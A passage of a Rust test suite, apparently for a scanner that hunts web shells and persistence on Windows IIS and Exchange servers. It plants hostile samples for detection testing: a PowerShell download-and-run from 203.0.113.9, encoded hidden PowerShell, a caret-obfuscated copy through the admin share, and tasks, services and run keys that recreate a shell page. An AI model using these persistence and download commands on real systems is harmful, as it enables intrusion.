//! Renamed and moved logs, allow lists, autostart entries, other web servers, earlier systems.

use super::{Answer, Server, Situation};
use crate::support::{self, hive::Written};

/// A log of IIS in which a page of `aspnet_client` that is not there any more answered.
fn log(day: u8) -> String {
    format!(
        "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: 2021-02-{day} 00:00:00\r\n#Fields: \
         date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status \
         sc-substatus sc-win32-status time-taken\r\n2021-02-{day} 03:06:27 10.0.0.5 POST /aspnet_client/x.aspx - 443 - 203.0.113.9 \
         UA - 200 0 0 133\r\n"
    )
}

/// A log in which nothing is.
fn quiet(day: u8) -> String {
    log(day).replace("POST /aspnet_client/x.aspx", "GET /owa/auth/logon.aspx")
}

const SITE_LOGS: &str = r"C:\inetpub\logs\LogFiles\W3SVC1";

fn digest<D: sha2::Digest>(bytes: &[u8]) -> String {
    D::digest(bytes).iter().map(|byte| format!("{byte:02x}")).collect()
}

/// The inert page in `wwwroot`, and lists of hashes beside the server's folders.
fn listed(server: &Server, list: &str, hash: &str) {
    server.shell(PAGE);
    server.write(&format!(r"C:\{list}.txt"), format!("{hash};75;listed\r\n"));
}

const PAGE: &str = r"C:\inetpub\wwwroot\x.aspx";

/// A scheduled task as Windows stores it: XML in UTF-16 with a mark.
fn task(server: &Server, name: &str, command: &str, arguments: &str) {
    let escape = |text: &str| text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
    let xml = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" \
         xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n  <Triggers><BootTrigger/></Triggers>\r\n  <Actions \
         Context=\"Author\">\r\n    <Exec>\r\n      <Command>{}</Command>\r\n      <Arguments>{}</Arguments>\r\n    \
         </Exec>\r\n  </Actions>\r\n</Task>\r\n",
        escape(command),
        escape(arguments)
    );
    let wide: Vec<u8> = xml.encode_utf16().flat_map(u16::to_le_bytes).collect();
    server.write(&format!(r"C:\Windows\System32\Tasks\{name}"), [&b"\xFF\xFE"[..], &wide].concat());
}

/// Tasks of Windows, IIS, Exchange servers' administrators and other makers' programs: program and arguments.
const ORDINARY_TASKS: &[(&str, &str)] = &[
    (r"%windir%\system32\defrag.exe", "-c -h -k -g -$"),
    (r"%windir%\system32\rundll32.exe", "Startupscan.dll,SusRunTask"),
    (r"C:\Windows\System32\wsqmcons.exe", ""),
    (r"%systemroot%\System32\MusNotification.exe", "Display"),
    (r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2102.4-0\MpCmdRun.exe", "-IdleTask -TaskName WdCleanup"),
    (r"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe", "/ua /installsource scheduler"),
    (r"%localappdata%\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe", ""),
    (r"C:\Program Files\win-acme\wacs.exe", r#"--renew --baseuri "https://acme-v02.api.letsencrypt.org/""#),
    ("robocopy", r"C:\inetpub\wwwroot D:\Backup\wwwroot /MIR /R:1"),
    (r"%windir%\system32\inetsrv\appcmd.exe", "recycle apppool /apppool.name:MSExchangeOWAAppPool"),
    ("forfiles", r#"/p "C:\inetpub\logs\LogFiles" /s /m *.log /d -30 /c "cmd /c del @path""#),
    ("cmd.exe", r"/c del /q C:\inetpub\logs\LogFiles\W3SVC1\*.log"),
    (
        "powershell.exe",
        r#"-NoProfile -Command "Invoke-WebRequest -Uri https://mail.example.org/owa/auth/logon.aspx -UseBasicParsing""#,
    ),
    ("powershell.exe", r#"-NonInteractive -ExecutionPolicy Bypass -File "C:\Scripts\Clean.ps1""#),
    (r"C:\ProgramData\chocolatey\bin\choco.exe", "upgrade all -y"),
    (r"C:\Program Files\7-Zip\7z.exe", r"a D:\Backup\site.7z C:\inetpub\wwwroot"),
    (
        "powershell.exe",
        r#"-Command "Add-PSSnapin *Exchange*; Get-MailboxDatabase | Export-Csv C:\Reports\db.csv -Encoding UTF8""#,
    ),
    ("sc.exe", "start w32time task_started"),
    (r"C:\PHP\php.exe", r"-f C:\inetpub\wwwroot\cron.php"),
];

fn ordinary_tasks(server: &Server) {
    for (at, (command, arguments)) in ORDINARY_TASKS.iter().enumerate() {
        task(server, &format!(r"Microsoft\Windows\Part {at}\Task"), command, arguments);
    }
    server.write(
        r"C:\Scripts\Clean.ps1",
        "# Removes logs that are older than a month\r\n$days = 30\r\n$folders = 'C:\\inetpub\\logs\\LogFiles'\r\nforeach \
         ($folder in $folders) {\r\n  Get-ChildItem $folder -Recurse -Filter *.log | Where-Object { $_.LastWriteTime -lt \
         (Get-Date).AddDays(-$days) } | Remove-Item\r\n}\r\n",
    );
    server.write(r"C:\Windows\Tasks\SA.DAT", "");
}

const TASK: &str = r"C:\Windows\System32\Tasks\Microsoft\Windows\Defrag\ScheduledDefrag2";

fn plain_task(server: &Server, command: &str, arguments: &str) {
    task(server, r"Microsoft\Windows\Defrag\ScheduledDefrag2", command, arguments);
}

fn system(hive: Written) -> Vec<u8> {
    hive.set(r"ControlSet001\Services\W3SVC", "ImagePath", r"%windir%\system32\svchost.exe -k iissvcs")
        .set(r"ControlSet001\Services\W3SVC\Parameters", "ServiceDll", r"%windir%\system32\inetsrv\iisw3adm.dll")
        .set(r"ControlSet001\Services\Disk", "ImagePath", r"System32\drivers\disk.sys")
        .set(r"ControlSet001\Services\Null", "ImagePath", r"\SystemRoot\System32\drivers\null.sys")
        .set(
            r"ControlSet001\Services\MSExchangePop3",
            "ImagePath",
            r#""C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\PopImap\Microsoft.Exchange.Pop3Service.exe""#,
        )
        .set(
            r"ControlSet001\Services\WinDefend",
            "ImagePath",
            r#""C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2102.4-0\MsMpEng.exe""#,
        )
        .set(
            r"ControlSet001\Services\HealthService",
            "ImagePath",
            r#""C:\Program Files\Microsoft Monitoring Agent\Agent\HealthService.exe""#,
        )
        .bytes()
}

const SYSTEM: &str = r"C:\Windows\System32\config\SYSTEM";
const SOFTWARE: &str = r"C:\Windows\System32\config\SOFTWARE";

fn service(server: &Server, value: &str, text: &str) {
    let hive = Written::new("ROOT").set(r"ControlSet001\Services\Spooler2", value, text);
    server.write(SYSTEM, system(hive));
}

fn ordinary_services(server: &Server) {
    server.write(SYSTEM, system(Written::new("ROOT")));
    let software = Written::new("ROOT")
        .set(r"Microsoft\Windows\CurrentVersion\Run", "SecurityHealth", r"%windir%\system32\SecurityHealthSystray.exe")
        .set(r"Microsoft\Windows NT\CurrentVersion\Winlogon", "Userinit", r"C:\Windows\system32\userinit.exe,")
        .set(r"Microsoft\Windows NT\CurrentVersion\Winlogon", "Shell", "explorer.exe");
    server.write(SOFTWARE, software.bytes());
}

const SCRIPTS: &str = r"C:\Program Files\Microsoft\Exchange Server\V15\Scripts";

/// A line that puts the page there again, as a batch file.
const AGAIN: &str = r"copy /y C:\ProgramData\Vendor\cache.txt C:\inetpub\wwwroot\aspnet_client\x.aspx";

/// An assembly of `fixtures/compiled`.
fn compiled(name: &str) -> Vec<u8> {
    let path = format!("{}/fixtures/compiled/{name}.dll.b64", env!("CARGO_MANIFEST_DIR"));
    support::fixture::decode(&std::fs::read(path).unwrap())
}

pub(super) const SITUATIONS: &[Situation] = &[
    Situation {
        id: "logs/named_as_configuration",
        what: "An IIS log is renamed to .config, which the page survey takes for a page",
        plant: |server| server.write(&format!(r"{SITE_LOGS}\u_ex210227.config"), log(27)),
        more: &[],
        answer: Answer::Hit { check: "unknown_script" },
        ordinary: Some(|server| {
            server.write(&format!(r"{SITE_LOGS}\web.config"), "<configuration>\r\n</configuration>\r\n");
            server.write(&format!(r"{SITE_LOGS}\u_ex210227.config"), quiet(27));
        }),
    },
    Situation {
        id: "logs/named_as_source",
        what: "An IIS log is renamed to .cs",
        plant: |server| server.write(&format!(r"{SITE_LOGS}\Global.cs"), log(27)),
        more: &[],
        answer: Answer::Hit { check: "unknown_script" },
        ordinary: None,
    },
    Situation {
        id: "logs/named_as_page_in_utf_16",
        what: "An IIS log is stored as UTF-16 under a page's name",
        plant: |server| {
            let wide: Vec<u8> = log(27).encode_utf16().flat_map(u16::to_le_bytes).collect();
            server.write(&format!(r"{SITE_LOGS}\old.aspx"), [&b"\xFF\xFE"[..], &wide].concat());
        },
        more: &[],
        answer: Answer::Hit { check: "unknown_script" },
        ordinary: None,
    },
    Situation {
        id: "logs/no_log_by_name_or_content",
        what: "A log is packed with an unsupported format, under a page's name",
        plant: |server| {
            let packed: Vec<u8> = (0..9_000u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
            server.write(&format!(r"{SITE_LOGS}\old.vb"), [&b"7z\xBC\xAF\x27\x1C\0\x04"[..], &packed].concat());
        },
        more: &[],
        answer: Answer::Gap { kind: "log_damaged", words: "old.vb" },
        ordinary: None,
    },
    Situation {
        id: "logs/moved_beside",
        what: "A log is moved to an unrelated folder beside the logs and renamed",
        plant: |server| server.write(r"C:\inetpub\logs\old\readme.dat", log(27)),
        more: &[],
        answer: Answer::Hit { check: "unknown_script" },
        ordinary: Some(|server| {
            server.write(r"C:\inetpub\logs\FailedReqLogFiles\W3SVC1\fr000001.xml", "<failedRequest/>");
            server.write(r"C:\inetpub\logs\wmsvc\readme.txt", "nothing\r\n");
        }),
    },
    Situation {
        id: "logs/moved_beside_configured",
        what: "A log is moved within the configured log folder and renamed",
        plant: |server| {
            server.edit(super::APPLICATION_HOST, r"%SystemDrive%\inetpub\logs\LogFiles", r"C:\weblogs");
            server.write(r"C:\weblogs\W3SVC1\u_ex210226.log", quiet(26));
            server.write(r"C:\weblogs\keep\readme.dat", log(27));
        },
        more: &[],
        answer: Answer::Hit { check: "unknown_script" },
        ordinary: None,
    },
    Situation {
        id: "logs/moved_among_those_of_exchange",
        what: "A front-end proxy log is moved to an Exchange log folder that is not read, and named like a page",
        plant: |server| {
            server.write(r"C:\Program Files\Microsoft\Exchange Server\V15\Logging\Diagnostics\a.cs", log(27));
        },
        more: &[],
        answer: Answer::Hit { check: "unknown_script" },
        ordinary: Some(|server| {
            server.write(
                r"C:\Program Files\Microsoft\Exchange Server\V15\Logging\Diagnostics\a.log",
                "something that is no log of requests\r\n",
            );
        }),
    },
    Situation {
        id: "logs/event_log_renamed",
        what: "The event log of Exchange cmdlets is renamed, and a new one started",
        plant: |_| {},
        more: &[],
        answer: Answer::Elsewhere {
            test: "src/logs/events/tests.rs::a_log_under_another_name_is_read_as_well",
            says: "read by content, whatever its name in the event log folder",
        },
        ordinary: None,
    },
    Situation {
        id: "logs/flooded",
        what: "25,000 benign probes, each from its own address, precede the request that matters",
        plant: |server| {
            let head = log(27);
            let (head, line) = head.split_at(head.rfind("2021-").unwrap());
            let probes: String = (0..25_000u32)
                .map(|n| {
                    line.replace("203.0.113.9", &format!("2001:db8::{n:x}"))
                        .replace("/aspnet_client/x.aspx", "/shell.php")
                        .replace(" 200 0 0 ", " 404 0 2 ")
                })
                .collect();
            server.write(&format!(r"{SITE_LOGS}\u_ex210227.log"), format!("{head}{probes}{line}"));
        },
        more: &[],
        answer: Answer::Hit { check: "unknown_script" },
        ordinary: None,
    },
    Situation {
        id: "logs/flooded_in_any_order",
        what: "Probes are crafted so that the hits depend on which worker reads which log first",
        plant: |_| {},
        more: &[],
        answer: Answer::Elsewhere {
            test: "src/logs/aggregate.rs::what_is_kept_depends_on_no_order_and_on_no_grouping",
            says: "the most severe hits are kept, in any order and grouping; the number of omitted hits is a gap",
        },
        ordinary: None,
    },
    Situation {
        id: "lists/allowed_by_md5",
        what: "A page has the MD5 of a benign file on the allow list",
        plant: |server| listed(server, "allowed", &digest::<md5::Md5>(&support::stand_in())),
        more: &["--allow-hashes", "ROOT/allowed.txt"],
        answer: Answer::Finding { path: PAGE, reason: "signature/china_chopper_jscript_eval_page", level: "medium" },
        ordinary: None,
    },
    Situation {
        id: "lists/allowed_by_sha_1",
        what: "The allow list contains the SHA-1 of a page",
        plant: |server| listed(server, "allowed", &digest::<sha1::Sha1>(&support::stand_in()).to_uppercase()),
        more: &["--allow-hashes", "ROOT/allowed.txt"],
        answer: Answer::Finding { path: PAGE, reason: "signature/china_chopper_jscript_eval_page", level: "high" },
        ordinary: None,
    },
    Situation {
        id: "lists/allowed_and_hostile",
        what: "A page is both on the allow list and on the list of malicious files",
        plant: |server| {
            let hash = digest::<sha2::Sha256>(&support::stand_in());
            listed(server, "allowed", &hash);
            listed(server, "hostile", &hash);
        },
        more: &["--allow-hashes", "ROOT/allowed.txt", "--iocs", "ROOT/hostile.txt"],
        answer: Answer::Finding { path: PAGE, reason: "signature/china_chopper_jscript_eval_page", level: "high" },
        ordinary: None,
    },
    Situation {
        id: "output/formula_of_another_locale",
        what: "A file name makes a spreadsheet run a formula where cells are separated by semicolons or full-width signs are recognised",
        plant: |_| {},
        more: &[],
        answer: Answer::Elsewhere {
            test: "src/report/text.rs::formulas_become_text",
            says: "a quote precedes every possible start of a cell",
        },
        ordinary: None,
    },
    Situation {
        id: "health/stand_in_for_setup",
        what: "A small file with the version of the newest update replaces ExSetup.exe",
        plant: |_| {},
        more: &[],
        answer: Answer::Elsewhere {
            test: "tests/suite/health.rs::the_patch_line_of_a_scan_has_the_doubts_of_health",
            says: "the patch line of the scan lists the contradictions",
        },
        ordinary: None,
    },
    Situation {
        id: "tasks/recreates_page",
        what: "A scheduled task with a Windows name copies a page into a web folder again and again",
        plant: |server| plain_task(server, "cmd.exe", &format!("/c {AGAIN}")),
        more: &[],
        answer: Answer::Finding { path: TASK, reason: "config/autostart_writes_page", level: "high" },
        ordinary: Some(ordinary_tasks),
    },
    Situation {
        id: "tasks/copies_into_web_folder",
        what: "A scheduled task copies files into a web folder without naming a page",
        plant: |server| {
            plain_task(server, "xcopy.exe", r"/y /q %ProgramData%\Vendor\* %SystemDrive%\inetpub\wwwroot\img")
        },
        more: &[],
        answer: Answer::Finding { path: TASK, reason: "config/autostart_writes_to_web_folder", level: "medium" },
        ordinary: None,
    },
    Situation {
        id: "tasks/by_own_share",
        what: "A scheduled task writes into a web folder through the machine's own share, with carets in the command",
        plant: |server| plain_task(server, "cmd.exe", r"/c c^o^py C:\a.txt \\127.0.0.1\c$\inetpub\wwwroot\x.ashx"),
        more: &[],
        answer: Answer::Finding { path: TASK, reason: "config/autostart_writes_page", level: "high" },
        ordinary: None,
    },
    Situation {
        id: "tasks/runs_from_web_folder",
        what: "A scheduled task runs an executable in a web folder",
        plant: |server| plain_task(server, r"C:\inetpub\wwwroot\bin\update.exe", "-quiet"),
        more: &[],
        answer: Answer::Finding { path: TASK, reason: "config/autostart_in_web_folder", level: "medium" },
        ordinary: None,
    },
    Situation {
        id: "tasks/runs_from_drop_folder",
        what: "A scheduled task runs an executable from a world-writable folder",
        plant: |server| plain_task(server, r"%PUBLIC%\Libraries\svc.exe", ""),
        more: &[],
        answer: Answer::Finding { path: TASK, reason: "config/autostart_in_drop_folder", level: "medium" },
        ordinary: None,
    },
    Situation {
        id: "tasks/encoded",
        what: "A scheduled task runs PowerShell with an encoded command",
        plant: |server| plain_task(server, "powershell", "-nop -w hidden -e SQBuAGUAcgB0AEkAbgBlAHIAdAA="),
        more: &[],
        answer: Answer::Finding { path: TASK, reason: "config/autostart_encoded", level: "medium" },
        ordinary: None,
    },
    Situation {
        id: "tasks/runs_download",
        what: "A scheduled task downloads and runs a script",
        plant: |server| {
            plain_task(
                server,
                "powershell",
                "-c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\"",
            );
        },
        more: &[],
        answer: Answer::Finding { path: TASK, reason: "config/autostart_runs_download", level: "high" },
        ordinary: None,
    },
    Situation {
        id: "tasks/script_recreates_page",
        what: "A scheduled task runs a script in an ordinary folder that writes a page",
        plant: |server| {
            plain_task(server, "powershell.exe", r#"-File "C:\Scripts\Clean.ps1""#);
            server.write(
                r"C:\Scripts\Clean.ps1",
                "$text = Get-Content C:\\Scripts\\text.dat -Raw\r\n$page = 'C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx'\r\nif \
                 (!(Test-Path $page)) { Set-Content $page $text }\r\n",
            );
        },
        more: &[],
        answer: Answer::Finding {
            path: r"C:\Scripts\Clean.ps1",
            reason: "config/autostart_writes_page",
            level: "high",
        },
        ordinary: Some(ordinary_tasks),
    },
    Situation {
        id: "tasks/script_of_any_name",
        what: "A scheduled task makes an interpreter run a file without a script extension, which starts another one that writes a page",
        plant: |server| {
            plain_task(server, "cmd", r#"/c "wscript.exe //e:vbscript C:\data\a.txt""#);
            server.write(r"C:\data\a.txt", "CreateObject(\"WScript.Shell\").Run \"C:\\data\\b.bat\", 0\r\n");
            server.write(r"C:\data\b.bat", format!("@echo off\r\n{AGAIN}\r\n"));
            plain_task(server, "wscript.exe", r"//e:vbscript C:\data\a.txt");
        },
        more: &[],
        answer: Answer::Finding { path: r"C:\data\b.bat", reason: "config/autostart_writes_page", level: "high" },
        ordinary: None,
    },
    Situation {
        id: "tasks/class_in_drop_folder",
        what: "A scheduled task names only a COM class, whose DLL is in a drop folder",
        plant: |server| {
            let hive = Written::new("ROOT").set(
                r"Classes\CLSID\{0D50A1C4-1111-4222-8333-444455556666}\InprocServer32",
                "",
                r"C:\Users\Public\a.dll",
            );
            server.write(SOFTWARE, hive.bytes());
        },
        more: &[],
        answer: Answer::Finding { path: SOFTWARE, reason: "config/autostart_in_drop_folder", level: "medium" },
        ordinary: Some(ordinary_services),
    },
    Situation {
        id: "scripts/of_every_shell",
        what: "The all-users PowerShell profile writes a page",
        plant: |server| {
            server.write(
                r"C:\Windows\System32\WindowsPowerShell\v1.0\profile.ps1",
                "Set-Content 'C:\\inetpub\\wwwroot\\x.aspx' $text\r\n",
            );
        },
        more: &[],
        answer: Answer::Finding {
            path: r"C:\Windows\System32\WindowsPowerShell\v1.0\profile.ps1",
            reason: "config/autostart_writes_page",
            level: "high",
        },
        ordinary: Some(|server| {
            server.write(r"C:\Windows\System32\WindowsPowerShell\v1.0\profile.ps1", "Set-Alias ll Get-ChildItem\r\n");
        }),
    },
    Situation {
        id: "tasks/older_form",
        what: "A scheduled task in the legacy binary format writes a page",
        plant: |server| {
            let mut job = vec![0; 68];
            job[20..22].copy_from_slice(&70u16.to_le_bytes());
            job.extend([0, 0]);
            for text in
                [r"C:\Windows\System32\cmd.exe".to_owned(), format!("/c {AGAIN}"), String::new(), "a".to_owned()]
            {
                let units: Vec<u16> = text.encode_utf16().chain([0]).collect();
                job.extend((units.len() as u16).to_le_bytes());
                job.extend(units.into_iter().flat_map(u16::to_le_bytes));
            }
            server.write(r"C:\Windows\Tasks\At1.job", job);
        },
        more: &[],
        answer: Answer::Finding {
            path: r"C:\Windows\Tasks\At1.job",
            reason: "config/autostart_writes_page",
            level: "high",
        },
        ordinary: None,
    },
    Situation {
        id: "tasks/broken",
        what: "A scheduled task cannot be read",
        plant: |server| server.write(r"C:\Windows\System32\Tasks\Update", "<Task><Actions><Exec><Command>x"),
        more: &[],
        answer: Answer::Gap { kind: "config_malformed", words: "Update" },
        ordinary: None,
    },
    Situation {
        id: "tasks/of_registry_alone",
        what: "The task file is deleted, and the scheduler continues from its registry copy",
        plant: |_| {},
        more: &[],
        answer: Answer::Elsewhere {
            test: "src/targets/services.rs::actions_of_the_scheduler_are_read_and_no_damage_stops_it",
            says: "the actions in the SOFTWARE hive are checked like those of task files",
        },
        ordinary: None,
    },
    Situation {
        id: "services/command_shell",
        what: "A service starts a shell that writes a page",
        plant: |server| service(server, "ImagePath", &format!("%COMSPEC% /c {AGAIN}")),
        more: &[],
        answer: Answer::Finding { path: SYSTEM, reason: "config/autostart_writes_page", level: "high" },
        ordinary: Some(ordinary_services),
    },
    Situation {
        id: "services/in_web_folder",
        what: "The executable of a service is in a web folder",
        plant: |server| service(server, "ImagePath", r#""C:\inetpub\wwwroot\aspnet_client\svc.exe" -k"#),
        more: &[],
        answer: Answer::Finding { path: SYSTEM, reason: "config/autostart_in_web_folder", level: "medium" },
        ordinary: None,
    },
    Situation {
        id: "services/on_failure",
        what: "The failure action of a service runs an executable from a temporary folder",
        plant: |server| service(server, "FailureCommand", r"%SystemRoot%\Temp\again.exe"),
        more: &[],
        answer: Answer::Finding { path: SYSTEM, reason: "config/autostart_in_drop_folder", level: "medium" },
        ordinary: None,
    },
    Situation {
        id: "services/library",
        what: "A shared service loads a DLL from `Users\\Public`",
        plant: |server| {
            let hive = Written::new("ROOT").set(
                r"ControlSet002\Services\Spooler2\Parameters",
                "ServiceDll",
                r"C:\Users\Public\spool.dll",
            );
            server.write(SYSTEM, system(hive));
        },
        more: &[],
        answer: Answer::Finding { path: SYSTEM, reason: "config/autostart_in_drop_folder", level: "medium" },
        ordinary: None,
    },
    Situation {
        id: "services/wrapped",
        what: "A service wrapper runs an encoded command",
        plant: |server| {
            let hive = Written::new("ROOT")
                .set(r"ControlSet001\Services\Spooler2", "ImagePath", r"C:\Program Files\nssm\nssm.exe")
                .set(r"ControlSet001\Services\Spooler2\Parameters", "Application", "powershell.exe")
                .set(
                    r"ControlSet001\Services\Spooler2\Parameters",
                    "AppParameters",
                    "-EncodedCommand SQBuAGUAcgB0AEkAbgBlAHIAdAA=",
                );
            server.write(SYSTEM, system(hive));
        },
        more: &[],
        answer: Answer::Finding { path: SYSTEM, reason: "config/autostart_encoded", level: "medium" },
        ordinary: None,
    },
    Situation {
        id: "services/broken_hive",
        what: "The registry hive with the services is damaged",
        plant: |server| server.write(SYSTEM, vec![b'x'; 9_000]),
        more: &[],
        answer: Answer::Gap { kind: "config_malformed", words: "SYSTEM" },
        ordinary: None,
    },
    Situation {
        id: "services/run_key",
        what: "A run key starts a script that writes a page",
        plant: |server| {
            let line = format!("cmd /c {AGAIN}");
            let hive = Written::new("ROOT").set(r"Microsoft\Windows\CurrentVersion\Run", "Update", &line);
            server.write(SOFTWARE, hive.bytes());
        },
        more: &[],
        answer: Answer::Finding { path: SOFTWARE, reason: "config/autostart_writes_page", level: "high" },
        ordinary: Some(ordinary_services),
    },
    Situation {
        id: "scripts/of_exchange",
        what: "A line that writes a page is added to one of Exchange's own scripts, above the signature block",
        plant: |server| {
            let script = format!("param()\r\nWrite-Host 'x'\r\n{AGAIN}\r\n# SIG # Begin signature block\r\n# MIIa\r\n");
            server.write(&format!(r"{SCRIPTS}\Start-Maintenance.ps1"), script);
        },
        more: &[],
        answer: Answer::Finding {
            path: r"C:\Program Files\Microsoft\Exchange Server\V15\Scripts\Start-Maintenance.ps1",
            reason: "config/autostart_writes_page",
            level: "high",
        },
        ordinary: Some(|server| {
            let script = "param([string]$Server)\r\n# Copies style sheets of the installation\r\n$web = Join-Path $exinstall \
                          'ClientAccess\\Owa'\r\nGet-ChildItem $web -Filter *.css | ForEach-Object { Copy-Item $_ $target }\r\n\
                          $client = New-Object System.Net.WebClient\r\nInvoke-Expression $command\r\n# SIG # Begin signature \
                          block\r\n# MIIa\r\n";
            server.write(&format!(r"{SCRIPTS}\Start-Maintenance.ps1"), script);
            server.write(&format!(r"{SCRIPTS}\Mine.ps1"), "Get-Mailbox | Export-Csv C:\\Reports\\all.csv\r\n");
        }),
    },
    Situation {
        id: "scripts/of_logon",
        what: "A group policy script (logon or startup) writes a page",
        plant: |server| {
            server.write(
                r"C:\Windows\System32\GroupPolicy\Machine\Scripts\Startup\a.bat",
                format!("@echo off\r\n{AGAIN}\r\n"),
            );
        },
        more: &[],
        answer: Answer::Finding {
            path: r"C:\Windows\System32\GroupPolicy\Machine\Scripts\Startup\a.bat",
            reason: "config/autostart_writes_page",
            level: "high",
        },
        ordinary: Some(|server| {
            server.write(
                r"C:\Windows\System32\GroupPolicy\Machine\Scripts\Startup\a.bat",
                "@echo off\r\nnet use H: \\\\fs\\home\r\n",
            );
        }),
    },
    Situation {
        id: "scripts/listed_by_policy",
        what: "A group policy lists a script with an encoded command",
        plant: |server| {
            let ini = "\r\n[Startup]\r\n0CmdLine=powershell.exe\r\n0Parameters=-enc SQBuAGUAcgB0AEkAbgBlAHIAdAA=\r\n";
            let wide: Vec<u8> = ini.encode_utf16().flat_map(u16::to_le_bytes).collect();
            server.write(
                r"C:\Windows\System32\GroupPolicy\Machine\Scripts\scripts.ini",
                [&b"\xFF\xFE"[..], &wide].concat(),
            );
        },
        more: &[],
        answer: Answer::Finding {
            path: r"C:\Windows\System32\GroupPolicy\Machine\Scripts\scripts.ini",
            reason: "config/autostart_encoded",
            level: "medium",
        },
        ordinary: None,
    },
    Situation {
        id: "servers/xampp",
        what: "A page in the default folder of a web server bundle",
        plant: |server| server.shell(r"C:\xampp\htdocs\dashboard\x.aspx"),
        more: &[],
        answer: Answer::Finding {
            path: r"C:\xampp\htdocs\dashboard\x.aspx",
            reason: "signature/china_chopper_jscript_eval_page",
            level: "high",
        },
        ordinary: Some(|server| server.write(r"C:\xampp\htdocs\index.html", "<html><body>It works</body></html>")),
    },
    Situation {
        id: "servers/apache_alias",
        what: "Apache serves a folder named in an included configuration file",
        plant: |server| {
            server.write(
                r"C:\Apache24\conf\httpd.conf",
                "Define SRVROOT \"C:/Apache24\"\r\nServerRoot \"${SRVROOT}\"\r\nInclude conf/extra/*.conf\r\n",
            );
            server.write(r"C:\Apache24\conf\extra\a.conf", "Alias /a \"C:/data/pictures\"\r\n");
            server.shell(r"C:\data\pictures\x.jsp.aspx");
        },
        more: &[],
        answer: Answer::Finding {
            path: r"C:\data\pictures\x.jsp.aspx",
            reason: "signature/china_chopper_jscript_eval_page",
            level: "high",
        },
        ordinary: Some(|server| {
            server.write(
                r"C:\Apache24\conf\httpd.conf",
                "DocumentRoot \"C:/Apache24/htdocs\"\r\nInclude conf/extra/*.conf\r\n",
            );
            server.write(r"C:\Apache24\htdocs\index.html", "<html><body>It works</body></html>");
        }),
    },
    Situation {
        id: "servers/apache_elsewhere",
        what: "Apache serves a folder on a volume that was not provided",
        plant: |server| server.write(r"C:\Apache24\conf\httpd.conf", "DocumentRoot \"E:/sites/a\"\r\n"),
        more: &[],
        answer: Answer::Gap { kind: "volume_not_provided", words: "httpd.conf" },
        ordinary: None,
    },
    Situation {
        id: "servers/nginx_root",
        what: "nginx, discovered by its folder, serves a folder named in its configuration",
        plant: |server| {
            server.write(
                r"C:\tools\nginx-1.25\conf\nginx.conf",
                "http {\n server {\n  location / { }\n  root C:/data/n;\n }\n}\n",
            );
            server.shell(r"C:\data\n\x.aspx");
        },
        more: &[],
        answer: Answer::Finding {
            path: r"C:\data\n\x.aspx",
            reason: "signature/china_chopper_jscript_eval_page",
            level: "high",
        },
        ordinary: None,
    },
    Situation {
        id: "servers/tomcat_context",
        what: "A Tomcat context points to a folder elsewhere",
        plant: |server| {
            server.write(
                r"C:\Program Files\Apache Software Foundation\Tomcat 9.0\conf\Catalina\localhost\a.xml",
                r#"<Context docBase="C:\data\t" reloadable="true"/>"#,
            );
            server.shell(r"C:\data\t\x.aspx");
        },
        more: &[],
        answer: Answer::Finding {
            path: r"C:\data\t\x.aspx",
            reason: "signature/china_chopper_jscript_eval_page",
            level: "high",
        },
        ordinary: None,
    },
    Situation {
        id: "servers/by_service",
        what: "A renamed web server is discovered by the service that runs it",
        plant: |server| {
            service(server, "ImagePath", r#""C:\data\s\bin\httpd.exe" -k runservice"#);
            server.write(r"C:\data\s\bin\httpd.exe", "MZ");
            server.shell(r"C:\data\s\htdocs\x.aspx");
        },
        more: &[],
        answer: Answer::Finding {
            path: r"C:\data\s\htdocs\x.aspx",
            reason: "signature/china_chopper_jscript_eval_page",
            level: "high",
        },
        ordinary: None,
    },
    Situation {
        id: "servers/packed_application",
        what: "A Java application is served from its archive",
        plant: |server| server.write(r"C:\wildfly-30\standalone\deployments\x.war", b"PK\x03\x04\x14\0\0\0"),
        more: &[],
        answer: Answer::Gap { kind: "partially_examined", words: "x.war" },
        ordinary: None,
    },
    Situation {
        id: "servers/prepended",
        what: "PHP runs a file before every page",
        plant: |server| server.write(r"C:\PHP\php.ini", "[PHP]\r\nauto_prepend_file = \"C:\\ProgramData\\a.txt\"\r\n"),
        more: &[],
        answer: Answer::Finding { path: r"C:\PHP\php.ini", reason: "config/autostart_prepended", level: "low" },
        ordinary: Some(|server| {
            server.write(r"C:\PHP\php.ini", "[PHP]\r\nauto_prepend_file =\r\n;auto_prepend_file=x\r\n")
        }),
    },
    Situation {
        id: "servers/linux_inside",
        what: "A web server runs in WSL, with its files in a user's folder",
        plant: |server| {
            server.shell(r"C:\Users\a\AppData\Local\Packages\Distribution_1\LocalState\rootfs\var\www\html\x.aspx");
        },
        more: &[],
        answer: Answer::Finding {
            path: r"C:\Users\a\AppData\Local\Packages\Distribution_1\LocalState\rootfs\var\www\html\x.aspx",
            reason: "signature/china_chopper_jscript_eval_page",
            level: "high",
        },
        ordinary: None,
    },
    Situation {
        id: "servers/linux_disk",
        what: "A web server runs in WSL, with its files in a disk image",
        plant: |server| {
            server.write(r"C:\Users\a\AppData\Local\Packages\Distribution_1\LocalState\ext4.vhdx", "vhdxfile")
        },
        more: &[],
        answer: Answer::Gap { kind: "image_not_opened", words: "ext4.vhdx" },
        ordinary: None,
    },
    Situation {
        id: "tasks/by_other_spelling",
        what: "A scheduled task names its executable in a web folder with slashes, dots and a stream",
        plant: |server| {
            plain_task(server, "C:/inetpub/./x/../wwwroot. /update.exe::$DATA", "");
        },
        more: &[],
        answer: Answer::Finding { path: TASK, reason: "config/autostart_in_web_folder", level: "medium" },
        ordinary: Some(ordinary_tasks),
    },
    Situation {
        id: "tasks/relative_to_web_folder",
        what: "A scheduled task changes into a web folder and runs a script there",
        plant: |server| {
